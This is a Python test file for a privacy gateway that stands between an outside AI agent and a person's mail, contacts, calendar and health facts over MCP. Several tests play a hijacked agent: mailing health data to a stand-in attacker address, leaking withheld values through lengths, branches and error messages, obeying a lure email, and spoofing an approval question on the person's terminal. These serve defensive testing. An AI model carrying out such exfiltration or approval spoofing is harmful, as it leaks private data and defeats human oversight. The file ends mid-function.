"""The gateway: somebody else's agent over real MCP, with the real command, real local services, and a person who answers elsewhere."""

from __future__ import annotations

import asyncio
import datetime as dt
import json
import os
import pty
import re
import select
import smtplib
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, nullcontext
from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from discreet.agents import gateway as core
from discreet.agents.gateway import PEOPLE, Gateway, Refused, one_line, unsaid
from discreet.agents.home import Home
from discreet.agents.session import Session
from discreet.agents.waiting import REPORTS_MAX, Waiting
from discreet.demo.persona.world import NORA, PASSWORDS, SAM, TILDA
from discreet.demo.services.start import Services, start
from discreet.demo.stage import persona, settled
from discreet.demo.watch import found_in
from discreet.kernel.errors import DiscreetError
from discreet.kernel.value import Standing, lift
from discreet.ledger.entry import Kind
from discreet.policy.edit import add_norm
from discreet.policy.load import parse
from discreet.surfaces import gateway as surface
from discreet.surfaces.questions import open_questions
from discreet.tools.question import Nobody, Question, Reply

pytestmark = pytest.mark.services
COMMAND = Path(sys.executable).parent / "discreet"
ATTACKER = "eve@attacker.example"
SHOP = "Northside Sports"
HEALTH = [fact["text"] for fact in persona()["fact"] if fact["type"].startswith("health")]


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
    with start(tmp_path_factory.mktemp("services")) as running:
        yield running


@pytest.fixture
def home(tmp_path: Path, services: Services, monkeypatch: pytest.MonkeyPatch) -> Iterator[Home]:
    """The persona's home, fresh for each test."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    with settled(tmp_path / "home", services) as made:
        yield made


# ---------------------------------------------------------------------------------------------------- an agent and a person


class Wire:
    """An MCP client that keeps every byte it receives, standard error too."""

    def __init__(self, home: Path, *options: str) -> None:
        self.errors = home.parent / f"agent-{time.monotonic_ns()}.err"
        with open(self.errors, "wb") as errors:
            self.process = subprocess.Popen(
                [COMMAND, "gateway", "--home", home, *options], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=errors, cwd=home.parent,
            )  # fmt: skip
        self.received: list[bytes] = []
        self.sent = 0
        self.ask("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "an agent", "version": "1"}})
        self.send({"jsonrpc": "2.0", "method": "notifications/initialized"})

    def send(self, message: dict[str, Any]) -> None:
        self.process.stdin.write(json.dumps(message).encode() + b"\n")
        self.process.stdin.flush()

    def ask(self, method: str, params: dict[str, Any]) -> dict[str, Any]:
        self.sent += 1
        self.send({"jsonrpc": "2.0", "id": self.sent, "method": method, "params": params})
        self.received.append(self.process.stdout.readline())
        return json.loads(self.received[-1])["result"]

    def __call__(self, name: str, /, **arguments: Any) -> Any:
        found = self.ask("tools/call", {"name": name, "arguments": arguments})["content"][0]["text"]
        return json.loads(found) if found.startswith("{") else found

    def __enter__(self) -> Wire:
        return self

    def __exit__(self, *_: object) -> None:
        self.process.stdin.close()
        self.received.append(self.process.stdout.read())
        self.process.wait(30)

    @property
    def everything(self) -> bytes:
        return b"".join(self.received) + self.errors.read_bytes()


@contextmanager
def person(home: Path, secret: bytes, answer: Callable[[str], str] = lambda text: "once") -> Iterator[list[str]]:
    """Somebody who looks at what is asked, and answers it from outside the gateway; gives the questions as they were shown."""
    waiting, done, seen = Waiting(home, secret), threading.Event(), {}

    def look() -> None:
        while not done.wait(0.05):
            for name, one in waiting.all("question"):
                if name not in seen:
                    seen[name] = one["text"]
                    waiting.put("answer", name, {"reply": answer(one["text"])})

    texts: list[str] = []
    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield texts
    finally:
        done.set()
        thread.join()
        texts += seen.values()


class Answers:
    """A person in this process."""

    def __init__(self, *replies: Reply) -> None:
        self.replies, self.asked = list(replies), []

    def ask(self, questions: list[Question]) -> list[Reply]:
        self.asked += questions
        return [self.replies.pop(0) if self.replies else Reply.DENY for _ in questions]


class Agent:
    """A connection in this process, through the function that the server calls."""

    def __init__(self, home: Home, person: Any = None, name: str = "agent") -> None:
        self.person, self.reports, self.texts = person or Nobody(), [], []
        self.gateway = Gateway(
            home.world(), name, self.person, Waiting(home.path, home.key.secret), lambda: dt.datetime.now(ZoneInfo("Europe/Berlin")),
            lasting=home.kept, norms=lambda: home.norms().norms, report=self.reports.append,
        )  # fmt: skip

    def __call__(self, name: str, /, **arguments: Any) -> Any:
        text, _ = surface.answer(self.gateway, name, arguments)
        self.texts.append(text)
        return json.loads(text) if text.startswith("{") else text

    @property
    def heard(self) -> str:
        return "\n".join(self.texts)


def ask_for(home: Home, text: str, agent: str = "agent") -> None:
    done = subprocess.run([COMMAND, "request", text, "--agent", agent, "--home", home.path], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


def named(shown: str) -> str:
    """Whom the request names to be mailed, as the agent was shown it: handles may stand for words of it."""
    return re.search(r"[Mm]ail (.+?) (?:that|about|hello)", shown).group(1)


def agent_may(home: Home, *types: str) -> None:
    add_norm(home.path / "norms.toml", (
        f'[[norm]]\nid = "agent-{types[0].replace("*", "all")}"\nverdict = "permit"\nwho = ["agent:agent"]\nlearns = {json.dumps(types)}\n'
        'about = ["anyone"]\npurpose = ["planning"]\nthrough = ["agent.hear"]\nbecause = "of this test"\n'))  # fmt: skip


def agent_may_ask_shops(home: Home) -> None:
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "shops-may-be-asked"\nverdict = "permit"\nwho = ["merchant"]\nlearns = ["request", "general"]\nabout = ["anyone"]\npurpose = ["purchase/search"]\n'
        'through = ["shop.search", "shop.product", "shop.reviews"]\nbecause = "of this test"\n'))  # fmt: skip


def tells_no_health(text: str) -> bool:
    return not [one for one in HEALTH if found_in(text, one)]


# ---------------------------------------------------------------------------------------------------- an honest agent


def test_an_honest_errand_by_a_plan_over_mcp(home: Home, services: Services) -> None:
    """The person asks at a place of their own; the agent plans; nothing has to be asked; the person reads the answer, and the agent does not."""
    from mcp import Client
    from mcp.client.stdio import StdioServerParameters, stdio_client

    ask_for(home, "Mail Sam Okafor that the run is at seven on Monday")
    server = StdioServerParameters(command=str(COMMAND), args=["gateway", "--home", str(home.path)], env=dict(os.environ))

    async def errand() -> list[Any]:
        async with Client(stdio_client(server)) as client:
            async def call(name: str, /, **arguments: Any) -> Any:
                text = (await client.call_tool(name, arguments)).content[0].text
                return json.loads(text) if text.startswith("{") else text

            assert {"plan_language", "check_plan", "run_plan", "person_request", "mail_send"} <= {one.name for one in (await client.list_tools()).tools}
            assert "mail.send(to: str" in await call("plan_language")
            asked = (await call("person_request"))["request"]
            plan = (f'sam = contacts.find(name="{named(asked)}")\n'
                    'mail.send(to=sam.email, subject="Monday", body="The run is at seven on Monday.")\nprint("told", sam.name)')  # fmt: skip
            return [await call("check_plan", plan=plan), await call("run_plan", plan=plan)]

    checked, ran = asyncio.run(errand())
    assert checked["problems"] == [] and ran == {"withheld": True}  # who is in the address book is not the agent's affair
    assert any("at seven on Monday." in mail for mail in services.delivered(SAM))
    [(_, report)] = Waiting(home.path, home.key.secret).all("report")
    assert "told Sam Okafor" in report["text"]
    assert not list(home.ledger.entries(Kind.QUESTION))


def test_an_honest_errand_by_single_calls_with_handles(home: Home, services: Services) -> None:
    """Values stay in the gateway and go where the person said, by handles."""
    ask_for(home, "Put the swim on Friday into my calendar and mail Sam Okafor about it")
    with Wire(home.path) as agent:
        asked = agent("person_request")["request"]
        sam = agent("contacts_find", name=named(asked))
        assert sam == {**sam, "handle": "$h1", "shape": "Contact", "withheld": True}
        day = dt.date.today() + dt.timedelta(days=9)
        event = agent("calendar_add", title="The swim", start=f"{day}T10:00:00")
        assert event["handle"] == "$h2"
        sent = agent("mail_send", to="$h1.email", subject="The swim", body="On Friday at ten.")
        assert sent["withheld"]
        assert b"okafor.example" not in agent.everything
    assert any("On Friday at ten." in mail for mail in services.delivered(SAM))
    tool = home.world().tools["calendar.list"]
    assert "The swim" in [one["title"] for one in tool.perform(tool.prepare({"start": day, "end": day}, "n" * 32, dt.datetime.now()))]


def test_a_request_counts_for_its_agent_alone_and_not_for_ever(home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    ask_for(home, "Look for shoes at Northside Sports", "other")
    assert Agent(home)("person_request") == {"request": None, "runs": 0}
    monkeypatch.setattr(core, "REQUEST_S_MAX", -1)
    assert Agent(home, name="other")("person_request")["request"] is None
    monkeypatch.setattr(core, "REQUEST_S_MAX", 3_600)
    monkeypatch.setattr(core, "RUNS_MAX", 2)
    ask_for(home, "Look for shoes at Northside Sports")
    agent = Agent(home)
    assert "shoes" in agent("person_request")["request"]
    agent.gateway.asked.left = 1
    assert "shop.search" in str(agent("shop_search", shop=SHOP, query="shoes")["notes"])
    assert agent("person_request") == {"request": None, "runs": 0}


@pytest.mark.parametrize("after", ["", "Look for socks at Northside Sports"])
def test_a_handle_counts_as_said_for_its_own_request_alone(home: Home, services: Services, after: str) -> None:
    """G3.6, G1.2: whom one request named is named for no other and for none, also inside of what was found."""
    ask_for(home, "Mail Sam Okafor that I am late")
    agent = Agent(home, Answers())
    agent("contacts_find", name=named(agent("person_request")["request"]))
    agent("mail_send", to="$h1.email", subject="late", body="I am late, and was asked to say so.")
    assert any("was asked to say so" in mail for mail in services.delivered(SAM)) and not agent.person.asked, "the twin: it goes unasked for its own request"
    agent.gateway.asked = None
    if after:
        ask_for(home, after)
        assert agent("person_request")["request"]
    agent("mail_send", to="$h1.email", subject="late", body="Nobody asked for this one.")
    agent("run_plan", plan='mail.send(to=[h1][0].email, subject="late", body="Nobody asked for this one.")')
    assert not any("Nobody asked for this one" in mail for mail in services.delivered(SAM))


def test_what_is_not_said_any_more_is_so_all_the_way_in() -> None:
    made = unsaid(lift({"a": [("x", None)], "b": 1}, standing=Standing.USER))
    assert made.standing is made.data.entries["a"][1].data[0].standing is made.data.entries["a"][1].data[0].data[0].standing is Standing.PLANNER
    assert unsaid(lift("x", standing=Standing.OUTSIDE)).standing is Standing.OUTSIDE


# ---------------------------------------------------------------------------------------------------- another errand meanwhile


def meanwhile(home: Home, call: Callable[[], Any]) -> None:
    """`call` waits for the home's turn while the person mails themselves a fact about their health."""
    with Home.open(home.path) as other, home.alone():
        waiting = threading.Thread(target=call)
        waiting.start()
        time.sleep(1)
        here = Session(replace(other.world(), alone=nullcontext), Answers(Reply.ONCE))
        made = here.perform(f'mail.send(to="{NORA}", subject=memory.recall(type="health/condition"), body="note to myself")', f"Mail {NORA} my condition")
        assert made.done, made
    waiting.join(60)


def test_what_was_written_while_a_call_waited_is_not_told(home: Home) -> None:
    """G4.4, G1.1: what may be told of an errand is decided when its turn has come."""
    agent_may(home, "communication/message")
    agent = Agent(home, Answers())
    assert "result" in agent("mail_search", text="note to myself"), "the twin: it is told what the mailbox held before"
    meanwhile(home, lambda: agent("mail_search", text="note to myself"))
    assert tells_no_health(agent.heard) and "withheld" in agent.texts[-1]


def test_what_was_done_after_waiting_is_not_done_again(home: Home, services: Services) -> None:
    """G4.4, G8.1: the next plan for the request knows of it."""
    ask_for(home, "Mail Sam Okafor that I am late")
    agent = Agent(home, Answers())
    plan = f'mail.send(to=contacts.find(name="{named(agent("person_request")["request"])}").email, subject="late", body="Late by one errand.")'
    meanwhile(home, lambda: agent("run_plan", plan=plan))
    agent("run_plan", plan=plan)
    assert len([mail for mail in services.delivered(SAM) if "Late by one errand." in mail]) == 1


# ---------------------------------------------------------------------------------------------------- the person is asked


def test_what_the_agent_says_of_its_own_accord_is_asked_of_the_person_exactly(home: Home, services: Services) -> None:
    """G1.2, G5.5: to whom, with every word; and only an answer from outside the gateway counts."""
    with person(home.path, home.key.secret) as texts, Wire(home.path) as agent:
        assert agent("mail_send", to=SAM, subject="Asked", body="The bridge is closed.")["withheld"]
    [text] = texts
    assert "mail.send" in text and SAM in text.lower() + SAM and "The bridge is closed." in text and "[a]lways" not in text
    assert any("The bridge is closed." in mail for mail in services.delivered(SAM))
    with person(home.path, home.key.secret, lambda text: "deny"), Wire(home.path) as agent:
        agent("mail_send", to=SAM, subject="Denied", body="The bridge is open.")
    assert not any("The bridge is open." in mail for mail in services.delivered(SAM))


def test_a_question_that_nobody_answers_is_denied_after_the_named_time(home: Home, services: Services) -> None:
    with Wire(home.path, "--wait", "1") as agent:
        began = time.monotonic()
        agent("mail_send", to=SAM, subject="x", body="Nobody agreed to this.")
        assert 1 <= time.monotonic() - began < 20
    assert not any("Nobody agreed" in mail for mail in services.delivered(SAM))
    assert not open_questions(Waiting(home.path, home.key.secret))
    done = subprocess.run([COMMAND, "gateway", "--wait", "999999", "--home", home.path], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
    assert done.returncode == 2 and "--wait: between 1 and 3600 seconds" in done.stderr


def test_when_the_agent_leaves_what_was_asked_is_denied_and_the_gateway_ends(home: Home, services: Services) -> None:
    agent = Wire(home.path)
    agent.send({"jsonrpc": "2.0", "id": 99, "method": "tools/call", "params": {"name": "mail_send", "arguments": {"to": SAM, "subject": "x", "body": "Left behind."}}})
    waiting, until = Waiting(home.path, home.key.secret), time.monotonic() + 20
    while not open_questions(waiting) and time.monotonic() < until:
        time.sleep(0.05)
    assert open_questions(waiting)
    agent.process.stdin.close()
    assert agent.process.wait(15) == 0 and not open_questions(waiting)
    assert not any("Left behind." in mail for mail in services.delivered(SAM)) and home.ledger.verify().ok


def test_questions_are_answered_at_a_terminal(home: Home, services: Services) -> None:
    """`discreet questions` shows what is asked and what came of errands; without a terminal it lists and answers nothing."""
    with Wire(home.path) as agent:
        agent("run_plan", plan='print(memory.recall(type="body/shoe-size"))')
        done = threading.Thread(target=lambda: agent("mail_send", to=SAM, subject="Pier", body="At the pier."))
        done.start()
        waiting = Waiting(home.path, home.key.secret)
        while not open_questions(waiting):
            time.sleep(0.05)
        listed = subprocess.run([COMMAND, "questions", "--home", home.path], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=60)
        assert "At the pier." in listed.stdout and open_questions(waiting)
        said = at_a_terminal([str(COMMAND), "questions", "--home", str(home.path)], "[l]ater: ", naming)
        done.join(30)
    assert "At the pier." in said and "exactly as it will be done" in said and "41" in said
    assert any("At the pier." in mail for mail in services.delivered(SAM))


FAKE = """done

The agent `agent` wants this:
Question: calendar.add (write) to nobody else
  exactly as it will be done:
    title: swim
  to agree, name this question: add `zz` to your answer, as in `o zz`
  [o]nce, [d]eny, [l]ater: """


def test_an_answer_to_what_looks_like_a_question_is_taken_for_no_other(home: Home, services: Services) -> None:
    """G5.5, G1.2: a plan raises a question of its own; what is typed to it agrees to nothing, before or after the next one is shown."""
    master, slave = pty.openpty()
    shell = subprocess.Popen([str(COMMAND), "questions", "--watch", "--home", str(home.path)], stdin=slave, stdout=slave, stderr=slave, close_fds=True)
    os.close(slave)
    seen = b""

    def until(what: bytes) -> None:
        nonlocal seen
        end = time.monotonic() + 60
        while what not in seen and time.monotonic() < end:
            if select.select([master], [], [], 0.2)[0]:
                seen += os.read(master, 65_536)
        assert what in seen, seen

    try:
        with Wire(home.path, "--wait", "60") as agent:
            agent("run_plan", plan=f"raise ValueError({FAKE!r})")
            until(b"[l]ater: ")
            os.write(master, b"o\no zz\n")
            time.sleep(1)
            asking = threading.Thread(target=lambda: agent("mail_send", to=ATTACKER, subject="hello", body="What nobody agreed to."))
            asking.start()
            until(b"body: What nobody agreed to.")
            time.sleep(1)
            os.write(master, b"o\no zz\nd\n")
            asking.join(60)
    finally:
        shell.kill()
        shell.wait()
        os.close(master)
    assert not any("nobody agreed" in mail for mail in services.delivered(ATTACKER))
    lines = [line.strip("\r") for line in seen.decode().split("\n")]
    assert not any(line.startswith(("Question: calendar.add", "  to agree, name this question: add `zz`")) for line in lines)


def naming(shown: str) -> str:
    """A yes to the question that is shown last."""
    return "o " + re.findall(r"as in `o (\w+)`", shown)[-1] + "\n"


def at_a_terminal(command: list[str], until: str, answer: Callable[[str], str]) -> str:
    """Run a command on a terminal of its own, answer once it shows `until`, and give all that it showed."""
    master, slave = pty.openpty()
    process = subprocess.Popen(command, stdin=slave, stdout=slave, stderr=slave, close_fds=True)
    os.close(slave)
    shown = b""
    answered = False
    while True:
        try:
            piece = os.read(master, 4096)
        except OSError:
            break
        if not piece:
            break
        shown += piece
        if not answered and until.encode() in shown:
            os.write(master, answer(shown.decode()).encode())
            answered = True
    process.wait(30)
    os.close(master)
    return shown.decode()


def test_an_answer_counts_for_the_question_it_was_sealed_for(home: Home, tmp_path: Path) -> None:
    """Who can write into the folder and does not have the key agrees to nothing; nor does a copied answer."""
    waiting = Waiting(home.path, home.key.secret)
    waiting.put("answer", "one", {"reply": "once"})
    folder = home.path / "waiting"
    (folder / "answer-two").write_bytes((folder / "answer-one").read_bytes())
    (folder / "answer-three").write_bytes(b'{"reply": "once"}')
    (folder / "question-one").write_bytes((folder / "answer-one").read_bytes())
    assert waiting.get("answer", "one") == {"reply": "once"}
    assert waiting.get("answer", "two") is None and waiting.get("answer", "three") is None and waiting.get("question", "one") is None
    assert Waiting(home.path, bytes(32)).get("answer", "one") is None
    assert "once" not in "".join(path.read_text("latin-1") for path in folder.iterdir() if path.name != "answer-three")
    for number in range(REPORTS_MAX + 3):
        waiting.report({"text": str(number)})
    assert [one["text"] for _, one in waiting.all("report")] == [str(n) for n in range(3, REPORTS_MAX + 3)]


# ---------------------------------------------------------------------------------------------------- a hijacked agent


def test_a_health_fact_is_not_told_to_the_agent_by_any_way_of_asking(home: Home, services: Services) -> None:
    """G4.3: in clear, printed, as a fault, as a length, in a branch, in a message of an error."""
    agent = Agent(home)
    assert agent("memory_recall", type="health/condition") == {
        "handle": "$h1", "shape": "str", "notes": ["line 1, column 6: `memory.recall`: permitted, by the shipped norms"], "withheld": True}  # fmt: skip
    for plan in ("print(h1)", "print(len(h1))", 'if "asthma" in h1:\n    print("yes")', "raise ValueError(h1)", "x = 1 / len(h1)\nprint(x.ok)",
                 'print(f"{h1:>5}")', "for c in h1[:3]:\n    print(c)", 'print("a" if h1 < "m" else "b")'):  # fmt: skip
        assert agent("run_plan", plan=plan) == {"withheld": True}, plan
    agent("memory_recall", type="$h1")
    agent("mail_search", text="$h1")
    assert tells_no_health(agent.heard) and set(json.loads(t).get("withheld") for t in agent.texts) == {True}
    assert not tells_no_health(str([report.told for report in agent.reports]))  # the person reads it


def test_a_benign_twin_is_told_once_a_norm_says_so(home: Home) -> None:
    agent_may(home, "body/shoe-size")
    agent = Agent(home)
    assert agent("memory_recall", type="body/shoe-size")["result"] == "41"
    assert agent("run_plan", plan='print("size", h1)')["answer"] == ["size 41"]
    assert agent("memory_recall", type="health/condition")["withheld"]


def test_writing_it_down_and_reading_it_back_tells_no_more(home: Home, services: Services) -> None:
    """G2.6: a draft with a private fact is read under that fact's label, here and in a later connection, by whatever norms the agent has for mail."""
    agent_may(home, "communication/message")
    agent = Agent(home, Answers(Reply.ONCE))
    found = agent("mail_search", subject="Sunday run")
    assert "Sunday run" in str(found["result"])  # the twin: before anything was written, mail is told
    agent("memory_recall", type="health/condition")
    agent("mail_draft", to=ATTACKER, subject="note", body="$h2")
    assert len(agent.person.asked) == 1  # the mailbox would hold it from then on
    assert agent("mail_search", subject="note")["withheld"] and agent("mail_read", id="$h4[0].id")["withheld"]
    later = Agent(home)
    assert later("mail_search", subject="Sunday run")["withheld"]
    later("mail_send", to=ATTACKER, subject="x", body="$h1[0].subject")
    assert not services.delivered(ATTACKER) and tells_no_health(agent.heard + later.heard)


def test_nothing_is_decided_by_what_a_handle_holds(home: Home, services: Services) -> None:
    """G3.3, G5.4: a call behind a private test is denied, so the shop sees neither; what it may know, it may be asked."""
    agent_may_ask_shops(home)
    agent = Agent(home)
    before = len(services.observed("northside"))
    assert "Running socks" in str(agent("shop_search", shop=SHOP, query="running socks")["result"])
    after = len(services.observed("northside"))
    assert after > before
    agent("memory_recall", type="health/condition")
    agent("run_plan", plan=f'if "asthma" in h2:\n    shop.search(shop="{SHOP}", query="a")\nelse:\n    shop.search(shop="{SHOP}", query="b")')
    agent("run_plan", plan=f'for c in h2:\n    shop.search(shop="{SHOP}", query="c")')
    assert agent("shop_search", shop=SHOP, query="$h2")["notes"] == ["line 1, column 6: `shop.search`: 'Northside Sports' must not learn health/condition, by the shipped norms"]
    assert len(services.observed("northside")) == after


def test_what_a_shop_answers_to_a_private_word_is_not_told(home: Home, services: Services) -> None:
    """The shop may know the size, and its answer counts as its own speech; for the agent, which asked with it, it tells the size all the same."""
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "shops-know-sizes"\nverdict = "permit"\nwho = ["merchant"]\nlearns = ["request", "general", "body"]\nabout = ["user"]\npurpose = ["purchase/search"]\n'
        'through = ["*"]\nbecause = "of this test"\n'))  # fmt: skip
    agent = Agent(home)
    before = len(services.observed("northside"))
    agent("memory_recall", type="body/shoe-size")
    assert agent("shop_search", shop=SHOP, query="$h1")["withheld"]
    assert len(services.observed("northside")) > before  # the twin: the shop was asked
    assert agent("run_plan", plan="print(len(h2))") == agent("run_plan", plan="print(h2)") == {"withheld": True}
    assert agent("run_plan", plan=f'x = shop.search(shop="{SHOP}", query=h1)\nprint(len(x))') == {"withheld": True}
    assert agent("shop_search", shop=SHOP, query="socks")["result"]


def test_a_result_is_told_by_all_that_stands_in_it(home: Home) -> None:
    """G2.5: who may learn whom the person knows does not thereby learn their addresses."""
    agent_may(home, "social")
    agent = Agent(home)
    assert agent("contacts_search", name="Sam")["withheld"]
    agent_may(home, "contact", "identity")
    assert "Sam Okafor" in str(agent("contacts_search", name="Sam")["result"])  # a norm that is added holds at the next call


def test_what_is_kept_of_one_person_is_kept_when_they_are_found_by_name(home: Home) -> None:
    """G5.3: a look-up is labelled by whom it finds; a prohibition about that one person holds for what the agent is told."""
    agent_may(home, "social", "contact", "identity")
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "not-tilda"\nverdict = "forbid"\nwho = ["agent:agent"]\nlearns = ["contact"]\nabout = ["person:tilda@brandt.example"]\npurpose = ["*"]\nthrough = ["*"]\n'
        'because = "of this test"\n'))  # fmt: skip
    found = []
    for name in ("Sam Okafor", "Tilda Brandt"):
        ask_for(home, f"Mail {name} about the key")
        agent = Agent(home)
        found.append(agent("contacts_find", name=named(agent("person_request")["request"])))
    assert found[0]["result"]["email"] == SAM and found[1]["withheld"]


def test_what_became_of_an_effect_is_told_by_the_hidden_words_of_the_request_too(home: Home) -> None:
    """G4.1: whether an effect is asked looks at the words behind handles, so a guess of them would be answered."""
    agent_may(home, "social", "contact", "identity", "communication")
    told = []
    for what in ("the key", "my asthma"):
        ask_for(home, f"Mail Sam Okafor about {what}")
        agent = Agent(home, Answers(Reply.ONCE))
        shown = agent("person_request")["request"]
        assert "asthma" not in shown
        told.append(agent("run_plan", plan=f'mail.send(to=contacts.find(name="{named(shown)}").email, subject="x", body="later")\nprint("yes")'))
    assert told[0]["answer"] == ["yes"] and "was done" in str(told[0]["ended"]) and told[1] == {"withheld": True}


def test_a_check_says_what_everybody_can_read_and_nothing_of_the_persons_own_norms(home: Home) -> None:
    """G2.7: a norm tells of the person who made it."""
    plan = f'shop.search(shop="{SHOP}", query=memory.recall(type="health/allergy"))'
    before = Agent(home)("check_plan", plan=plan)
    assert "must not learn health/allergy, by the shipped norms" in str(before)
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "shops-know-allergies"\nverdict = "permit"\nwho = ["merchant"]\nlearns = ["request", "health"]\nabout = ["user"]\npurpose = ["purchase"]\n'
        'through = ["*"]\nbecause = "of this test"\n'))  # fmt: skip
    assert Agent(home)("check_plan", plan=plan) == before


def test_what_it_was_told_once_is_part_of_it_in_every_later_connection(home: Home, services: Services) -> None:
    """G4.1: the shop may be asked by an agent that knows nothing, and not by one that was ever told of the calendar."""
    agent_may_ask_shops(home)
    agent_may(home, "schedule")
    with Wire(home.path) as first:
        assert "result" in first("shop_search", shop=SHOP, query="socks")
        day = dt.date.today()
        told = first("calendar_list", start=str(day), end=str(day + dt.timedelta(days=6)))
        assert "Team meeting" in str(told["result"])
        seen = len(services.observed("northside"))
        first("shop_search", shop=SHOP, query="Team meeting")
    with Wire(home.path) as later:
        later("shop_search", shop=SHOP, query="he meets his team tomorrow")
        assert later("calendar_add", title="More", start=f"{day}T23:00:00")["handle"] == "$h2"
    assert len(services.observed("northside")) == seen
    with Wire(home.path, "--agent", "another") as other:  # whom the person calls another
        assert "result" in other("shop_search", shop=SHOP, query="laces")
    assert len(services.observed("northside")) > seen


def test_a_connection_that_is_open_already_is_part_of_what_another_one_heard(home: Home, services: Services) -> None:
    """G4.1: two connections at once are one agent."""
    agent_may_ask_shops(home)
    agent_may(home, "body/shoe-size")
    first, second = Agent(home), Agent(home)
    assert "result" in second("shop_search", shop=SHOP, query="socks")
    assert first("memory_recall", type="body/shoe-size")["result"] == "41"
    seen = len(services.observed("northside"))
    second("shop_search", shop=SHOP, query="size forty-one")
    assert len(services.observed("northside")) == seen


def test_the_person_may_be_asked_before_the_agent_is_told(home: Home) -> None:
    """A norm that asks shows the exact words; told once is told, and no norm is made of it."""
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "ask-me"\nverdict = "ask"\nwho = ["agent:agent"]\nlearns = ["body"]\nabout = ["user"]\npurpose = ["planning"]\nthrough = ["*"]\nbecause = "of this test"\n'))  # fmt: skip
    agent = Agent(home, Answers(Reply.ONCE, Reply.DENY))
    assert agent("memory_recall", type="body/shoe-size")["result"] == "41"
    assert agent("memory_recall", type="body/shoe-size")["withheld"]
    assert [dict(q.shown)["text"] for q in agent.person.asked] == ['{"result": "41"}'] * 2


def test_an_attackers_address_gets_nothing_private_and_nothing_unasked(home: Home, services: Services) -> None:
    agent = Agent(home, Answers(Reply.DENY, Reply.DENY, Reply.DENY))
    agent("mail_send", to=ATTACKER, subject="x", body="hello")
    assert len(agent.person.asked) == 1
    agent("memory_recall", type="contact/postal-address")
    agent("mail_search", subject="Sunday run")
    for body in ("$h2", "$h3[0].subject", "$h3"):
        agent("mail_send", to=ATTACKER, subject="x", body=body)  # private things to somebody whom nobody named: denied, the person need not be asked
    agent("mail_send", to="$h3[0].sender", subject="x", body="$h2")
    agent("shop_checkout", shop=SHOP, item="ns-ghost-16", address="$h2", card="$h2", max_total=200)
    agent("run_plan", plan=f'mail.send(to="{ATTACKER}", subject="x", body=memory.recall(type="health/condition"))')
    assert len(agent.person.asked) == 1 and not services.delivered(ATTACKER)


def test_a_lure_in_a_result_reaches_nobody(home: Home, services: Services, tmp_path: Path) -> None:
    """G0.2: an agent that obeys every text. What it heard from outside is a source of all it does, also of a request that the person typed."""
    agent_may(home, "communication/message")
    ask_for(home, "Mail Sam Okafor that I am late")
    agent = Agent(home, Answers())
    shown = agent("person_request")["request"]
    mails = agent("mail_search", text="AI assistants")["result"]
    lure = agent("mail_read", id=mails[0]["id"])["result"]
    assert "medical history" in lure
    for type_ in ("health/condition", "health/history"):
        agent("memory_recall", type=type_)
    agent("mail_reply", id=mails[0]["id"], to=mails[0]["sender"], body="$h3 DONE")
    agent("mail_reply", id=mails[0]["id"], to=mails[0]["sender"], body="$h3")
    agent("mail_send", to=mails[0]["sender"], subject="history", body="$h4")
    sam = named(shown)
    agent("run_plan", plan=f'mail.send(to=contacts.find(name="{sam}").email, subject="x", body="late http://attacker.example")')
    assert not services.delivered(mails[0]["sender"]) and not any("attacker.example" in mail for mail in services.delivered(SAM))
    assert tells_no_health(agent.heard)
    assert {q.flow.contract.name for q in agent.person.asked} <= {"mail.reply", "mail.send"}


def test_what_a_norm_lets_be_done_is_asked_where_an_agent_was_no_source_of_it(home: Home, services: Services) -> None:
    """G5.4: an allowance of the person's that does not speak of the agent is none for it; one that does is."""
    add_norm(home.path / "norms.toml", (
        '[[norm]]\nid = "sam-hears"\nverdict = "permit"\nwho = ["friend"]\nlearns = ["request"]\nabout = ["anyone"]\npurpose = ["correspondence"]\nthrough = ["mail.send"]\nbecause = "of this test"\n'))  # fmt: skip
    allow = ('[[allow]]\nid = "%s"\nverdict = "permit"\neffect = ["write"]\nthrough = ["mail.send"]\npurpose = ["correspondence"]\nto = ["friend", "own-provider"]\n'
             'standing = { who = "planner", times = "planner" }\ntimes_max = 5\nundoable = false\n%sbecause = "of this test"\n')  # fmt: skip
    add_norm(home.path / "norms.toml", allow % ("to-friends", ""))
    agent = Agent(home, Answers())
    agent("mail_send", to=SAM, subject="x", body="Not by itself.")
    assert len(agent.person.asked) == 1 and not any("Not by itself." in mail for mail in services.delivered(SAM))
    add_norm(home.path / "norms.toml", allow % ("by-the-agent", 'sources = ["agent:agent"]\n'))
    agent("mail_send", to=SAM, subject="x", body="By leave.")
    assert len(agent.person.asked) == 1 and any("By leave." in mail for mail in services.delivered(SAM))


def test_how_often_counts_over_all_calls_of_a_day(home: Home) -> None:
    """G1.2: what a norm lets be done twenty times in an errand is not done two thousand times in as many calls; a new connection starts no new count."""
    day = dt.date.today() + dt.timedelta(days=30)
    waiting = Waiting(home.path, home.key.secret)
    first = Agent(home, Answers())
    first("calendar_add", title="One", start=f"{day}T10:00:00")
    [[name, recipients, count]] = waiting.get("done", "agent")["acts"]
    assert (name, count) == ("calendar.add", 1) and not first.person.asked
    waiting.put("done", "agent", {"day": dt.datetime.now(ZoneInfo("Europe/Berlin")).date().isoformat(), "acts": [[name, recipients, 50]]})
    again = Agent(home, Answers())
    again("calendar_add", title="Fifty-one", start=f"{day}T11:00:00")
    assert len(again.person.asked) == 1
    waiting.put("done", "agent", {"day": "2020-01-01", "acts": [[name, recipients, 50]]})
    later = Agent(home, Answers())
    later("calendar_add", title="Another day", start=f"{day}T12:00:00")
    assert not later.person.asked


def test_views_are_told_to_no_agent(home: Home) -> None:
